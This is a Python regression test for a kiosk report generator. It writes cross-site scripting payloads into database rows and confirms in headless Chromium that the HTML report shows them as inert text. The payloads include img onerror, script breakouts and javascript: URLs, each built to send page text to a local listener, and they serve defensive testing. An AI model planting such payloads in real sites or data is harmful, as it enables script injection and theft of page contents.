#!/usr/bin/env python3
"""An attacker's rows through the real report in real headless Chromium (stdlib only).

Usage: scripts/report-hostile-check.py KIOSKCARDS OUT_DIR

Makes a data directory with `simulate`, then, as a rescued or forged file would, rewrites kiosk
ids, deck ids, card ids, end reasons, input methods and languages into payloads, and adds QR
code events whose card id is one: a tag with an
event handler, a `</script>` that would end the embedded JSON, `javascript:` URLs, quotes that
would break out of an attribute, a line separator. Each payload, if it ran, would set
`window.__kioskPwned`, fetch from a local HTTP listener and then navigate to it. Writes the report and opens it in
Chromium (the DevTools pipe of report-browser-check.py), and checks that:
- no payload ran (`window.__kioskPwned` unset, no JavaScript `alert`/dialog),
- the page is the report's own markup: its three scripts, no element or attribute the payloads
  carry (`img`, `iframe`, `a[href]`, any `on*` attribute), no Content Security Policy violation,
- every payload shows on the page as the very text the rows hold (the oracle is the payload
  list here, not the report's code) and the embedded JSON parses back to the same strings,
- the page made no network request (DevTools: nothing but file:/data:; the listener: no hit).
The same through the fleet: a throw-away PostgreSQL (when installed; a skip says so), a kiosk
role that syncs forged rows with `fleet sync --once`, and `report --postgres`. Exit 0 when all
hold.
"""
import http.server, importlib.util, json, os, shutil, sqlite3, subprocess, sys, tempfile, threading, time

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("report_browser_check", os.path.join(here, "report-browser-check.py"))
browser_check = importlib.util.module_from_spec(spec)
spec.loader.exec_module(browser_check)

hits = []

class Listener(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass

def payloads(port):
    """(column, payload) pairs; each payload would run `act` if the page let it."""
    act = (f"window.__kioskPwned=(window.__kioskPwned||0)+1;"
           f"fetch('http://127.0.0.1:{port}/leak?'+encodeURIComponent(document.body.innerText.slice(0,200)));"
           f"setTimeout(()=>{{location.href='http://127.0.0.1:{port}/navigate'}},1200)")
    return {
        "end_reason": [
            f"\"><img src=x onerror=\"{act}\">",
            f"javascript:{act}",
        ],
        "kiosk_id": [
            f"</script><script>{act}</script>",
            f"' autofocus onfocus='{act}' x='",
        ],
        "deck_id": [
            f"\" onmouseover=\"{act}\" style=\"position:fixed;inset:0\" x=\"",
        ],
        "card_id": [
            f"<iframe src=\"javascript:parent.{act}\"></iframe>",
            f"<a href=\"javascript:{act}\" id=\"pwn\">click</a><!--",
        ],
        "input_method": [
            f"<svg onload=\"{act}\">",
        ],
        "language": [
            f"</script><!--<script>\u2028{act}//",
        ],
        "qr_card_id": [
            f"<img src=x onerror=\"{act}\">",
        ],
    }

def forge_codes(db, payload):
    """A `qr_shown` event in every visit, its card id the payload: the report's QR code table."""
    db.execute("""INSERT INTO kiosk_events (uid, kiosk_id, kind, wall_ms, monotonic_ns, session_id, card_id, code_of)
                  SELECT 'qr-' || id, kiosk_id, 'qr_shown', started_wall_ms + 1, started_monotonic_ns + 1, session_id,
                      ?, 'card'
                  FROM visits""", (payload,))

def forge_fleet_rows(db_path, port):
    """The same payloads in the columns a kiosk role writes itself (not its kiosk id, which row
    security ties to its role): what a stolen kiosk password can put in front of the operator."""
    p = payloads(port)
    db = sqlite3.connect(db_path)
    db.execute("UPDATE decisions SET deck_id = ?", (p["deck_id"][0],))
    db.execute("UPDATE visits SET deck_id = ?", (p["deck_id"][0],))
    cards = [r[0] for r in db.execute("SELECT DISTINCT card_id FROM decisions ORDER BY card_id")]
    for old, new in zip(cards, p["card_id"] + p["kiosk_id"]):
        db.execute("UPDATE decisions SET card_id = ? WHERE card_id = ?", (new, old))
    for i, reason in enumerate(p["end_reason"]):
        db.execute("UPDATE visits SET end_reason = ? WHERE id % 3 = ?", (reason, i))
    db.execute("UPDATE decisions SET language = ? WHERE id % 5 = 0", (p["language"][0],))
    forge_codes(db, p["qr_card_id"][0])
    db.commit()
    db.close()
    return p["deck_id"] + p["card_id"] + p["kiosk_id"] + p["end_reason"] + p["language"] + p["qr_card_id"]

def postgres_bin():
    for v in ("17", "16", "15"):
        d = f"/usr/lib/postgresql/{v}/bin"
        if all(os.access(os.path.join(d, x), os.X_OK) for x in ("initdb", "pg_ctl", "postgres")):
            return d
    return None

def fleet_page(binary, out, port, env):
    """A throw-away PostgreSQL (as nobody when root, like the Swift tests' server), the fleet
    schema, one kiosk role that syncs forged rows with `fleet sync --once`, then `report
    --postgres`. Returns (html, payloads) or None with the reason printed."""
    bindir = postgres_bin()
    if bindir is None:
        print("report-hostile-check: SKIP report --postgres: no PostgreSQL server (apt-get install postgresql)")
        return None
    # A folder of its own in the temporary directory, not under `out`: the server runs as nobody,
    # which need not be able to pass through the work tree (a .build made 0750 once stopped it).
    root = tempfile.mkdtemp(prefix="kioskcards-hostile-pg-")
    os.chmod(root, 0o755)
    as_server = []
    if os.geteuid() == 0:
        os.chown(root, 65534, 65534)
        as_server = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
    subprocess.run(as_server + [f"{bindir}/initdb", "-D", f"{root}/data", "-U", "fleetadmin", "--auth-local=trust",
                   "--auth-host=scram-sha-256", "--no-sync", "-E", "UTF8", "--locale=C"],
                   check=True, stdout=subprocess.DEVNULL)
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        pg_port = s.getsockname()[1]
    subprocess.run(as_server + [f"{bindir}/pg_ctl", "-D", f"{root}/data", "-l", f"{root}/log", "-w", "-o",
                   f"-k {root} -p {pg_port} -c listen_addresses=127.0.0.1 -c fsync=off", "start"],
                   check=True, stdout=subprocess.DEVNULL)
    try:
        admin = f"host={root} port={pg_port} user=fleetadmin dbname=postgres"
        subprocess.run([binary, "fleet", "init", "--postgres", admin], check=True, stdout=subprocess.DEVNULL)
        added = subprocess.run([binary, "fleet", "add-kiosk", "lobby-h", "--postgres", admin,
                                "--kiosk-host", "127.0.0.1"], check=True, capture_output=True, text=True).stdout
        url = next(l.split("=", 1)[1].strip() for l in added.splitlines() if l.startswith("fleet-url"))
        data = os.path.join(out, "fleet-data")
        subprocess.run([binary, "simulate", "--deck", "examples/seed-stack.json", "--data", data, "--visitors", "60",
                        "--seed", "53", "--kiosk", "lobby-h"], check=True, stdout=subprocess.DEVNULL)
        written = forge_fleet_rows(os.path.join(data, "decisions.sqlite3"), port)
        conf = os.path.join(out, "kiosk.conf")
        with open(conf, "w") as f:
            f.write("kiosk-id = lobby-h\n")
        subprocess.run([binary, "fleet", "sync", "--once", "--data", data, "--fleet-url", url, "--config", conf],
                       check=True, env=env)
        html = os.path.join(out, "hostile-fleet.html")
        subprocess.run([binary, "report", "--postgres", admin, "--k", "1", "--min-n", "1", "--out", html],
                       check=True, env=env)
        return html, written
    finally:
        subprocess.run(as_server + [f"{bindir}/pg_ctl", "-D", f"{root}/data", "-m", "immediate", "-w", "stop"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        shutil.rmtree(root, ignore_errors=True)

def forge(db_path, port):
    """Rewrites rows of a simulated store into the payloads, enough rows each to pass the
    report's privacy floor (k = 1 is passed to `report`). Returns every payload written."""
    p = payloads(port)
    db = sqlite3.connect(db_path)
    kiosks = [r[0] for r in db.execute("SELECT DISTINCT kiosk_id FROM decisions ORDER BY kiosk_id")]
    for old, new in zip(kiosks, p["kiosk_id"]):
        db.execute("UPDATE decisions SET kiosk_id = ? WHERE kiosk_id = ?", (new, old))
        db.execute("UPDATE visits SET kiosk_id = ? WHERE kiosk_id = ?", (new, old))
        db.execute("UPDATE kiosk_events SET kiosk_id = ? WHERE kiosk_id = ?", (new, old))
    decks = [r[0] for r in db.execute("SELECT DISTINCT deck_id FROM decisions ORDER BY deck_id")]
    db.execute("UPDATE decisions SET deck_id = ? WHERE deck_id = ?", (p["deck_id"][0], decks[0]))
    db.execute("UPDATE visits SET deck_id = ? WHERE deck_id = ?", (p["deck_id"][0], decks[0]))
    cards = [r[0] for r in db.execute("SELECT DISTINCT card_id FROM decisions ORDER BY card_id")]
    for old, new in zip(cards, p["card_id"]):
        db.execute("UPDATE decisions SET card_id = ? WHERE card_id = ?", (new, old))
    ids = [r[0] for r in db.execute("SELECT id FROM visits ORDER BY id")]
    for i, reason in enumerate(p["end_reason"]):
        db.execute("UPDATE visits SET end_reason = ? WHERE id % 3 = ?", (reason, i))
    db.execute("UPDATE decisions SET input_method = ? WHERE id % 4 = 0", (p["input_method"][0],))
    db.execute("UPDATE decisions SET language = ? WHERE id % 5 = 0", (p["language"][0],))
    forge_codes(db, p["qr_card_id"][0])
    db.commit()
    db.close()
    assert ids, "simulate stored no visits"
    # The report names only the input methods it knows: that payload is stored, not shown.
    return [x for column, group in p.items() if column != "input_method" for x in group]

PROBE = r"""(() => {
  const el = document.querySelectorAll('*');
  const onAttrs = [];
  for (const e of el) for (const a of e.attributes) if (a.name.startsWith('on')) onAttrs.push(e.tagName + '[' + a.name + ']');
  let json = null, jsonError = null;
  try { json = JSON.parse(document.getElementById('report-data').textContent); } catch (e) { jsonError = String(e); }
  return {
    pwned: window.__kioskPwned || 0,
    scripts: document.scripts.length,
    foreign: Array.from(document.querySelectorAll('img,iframe,svg,object,embed,a[href],form,base,meta[http-equiv=refresh]'))
      .map(e => e.outerHTML.slice(0, 120)),
    onAttrs,
    cellText: Array.from(document.querySelectorAll('td,th')).map(e => e.textContent),
    json, jsonError,
    canvases: document.querySelectorAll('canvas').length,
  };
})()"""

def strings_in(node, out):
    if isinstance(node, str):
        out.add(node)
    elif isinstance(node, list):
        for x in node:
            strings_in(x, out)
    elif isinstance(node, dict):
        for k, v in node.items():
            out.add(k)
            strings_in(v, out)
    return out

def check_page(browser, html, written, label):
    problems = []
    target = browser.send("Target.createTarget", {"url": "about:blank"})["targetId"]
    session = browser.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
    for domain in ("Runtime", "Log", "Network", "Page"):
        browser.send(domain + ".enable", session=session)
    browser.events.clear()
    browser.send("Page.navigate", {"url": "file://" + os.path.abspath(html)}, session=session)
    browser.wait_event("Page.loadEventFired", session)
    # Hover and focus everything, so a handler on mouseover/focus would fire too.
    browser.send("Input.dispatchMouseEvent", {"type": "mouseMoved", "x": 200, "y": 300}, session=session)
    browser.send("Runtime.evaluate", {"expression":
        "document.querySelectorAll('*').forEach(e=>{try{e.focus();e.dispatchEvent(new MouseEvent('mouseover',{bubbles:true}))}catch(_){}})"},
        session=session)
    time.sleep(0.8)
    result = browser.send("Runtime.evaluate", {"expression": PROBE, "returnByValue": True}, session=session)
    if "exceptionDetails" in result:
        return [f"{label}: the probe failed: {result['exceptionDetails']}"]
    probe = result["result"]["value"]
    for e in browser.events:
        if e.get("sessionId") != session:
            continue
        m, p = e.get("method"), e.get("params", {})
        if m == "Network.requestWillBeSent":
            url = p["request"]["url"]
            if not (url.startswith("file:") or url.startswith("data:")):
                problems.append(f"{label}: network request to {url}")
        elif m == "Page.javascriptDialogOpening":
            problems.append(f"{label}: a dialog opened: {p.get('message')}")
        elif m == "Runtime.exceptionThrown":
            problems.append(f"{label}: exception: {p['exceptionDetails'].get('text')}")
        elif m in ("Log.entryAdded", "Runtime.consoleAPICalled"):
            text = p.get("entry", {}).get("text") or json.dumps(p.get("args"))
            level = p.get("entry", {}).get("level") or p.get("type")
            if level in ("error", "warning") or "Content Security Policy" in text:
                problems.append(f"{label}: console {level}: {text[:300]}")
    if probe["pwned"]:
        problems.append(f"{label}: a payload RAN in the page ({probe['pwned']} times)")
    if probe["scripts"] != 3:
        problems.append(f"{label}: {probe['scripts']} script elements, the report has 3")
    for f in probe["foreign"]:
        problems.append(f"{label}: an element from the data: {f}")
    for a in probe["onAttrs"]:
        problems.append(f"{label}: an event handler attribute from the data: {a}")
    if probe["jsonError"]:
        problems.append(f"{label}: the embedded JSON does not parse: {probe['jsonError']}")
    else:
        in_json = strings_in(probe["json"], set())
        for w in written:
            if w not in in_json:
                problems.append(f"{label}: the embedded JSON lost the text {w!r}")
    cells = set(probe["cellText"])
    for w in written:
        if w not in cells:
            problems.append(f"{label}: no table cell shows the text {w!r} as it is stored")
    time.sleep(1.5)  # a payload's delayed navigation (to the listener) would have happened by now
    browser.send("Target.closeTarget", {"targetId": target})
    print(f"report-hostile-check: {label}: {len(written)} payloads shown as text, {probe['scripts']} scripts, "
          f"{probe['canvases']} charts, {len(probe['foreign'])} foreign elements, pwned={probe['pwned']}")
    return problems

def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    binary, out = sys.argv[1:]
    os.makedirs(out, exist_ok=True)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    data = os.path.join(out, "data")
    for seed, kiosk in ((51, "lobby-a"), (52, "lobby-b")):
        subprocess.run([binary, "simulate", "--deck", "examples/seed-stack.json", "--data", data,
                        "--visitors", "60", "--seed", str(seed), "--kiosk", kiosk], check=True)
    written = forge(os.path.join(data, "decisions.sqlite3"), port)
    html = os.path.join(out, "hostile.html")
    env = dict(os.environ, TZ="UTC")
    subprocess.run([binary, "report", "--data", data, "--k", "1", "--min-n", "1", "--out", html], check=True, env=env)
    pages = [(html, written, "sqlite")]
    fleet = fleet_page(binary, out, port, env)
    if fleet:
        pages.append((fleet[0], fleet[1], "postgres"))
    browser = browser_check.Browser()
    problems = []
    try:
        for path, w, label in pages:
            problems += check_page(browser, path, w, label)
    finally:
        browser.close()
    server.shutdown()
    for h in hits:
        problems.append(f"the local listener saw a request: {h}")
    for p in problems:
        print("report-hostile-check: FAIL " + p, file=sys.stderr)
    sys.exit(1 if problems else 0)

main()
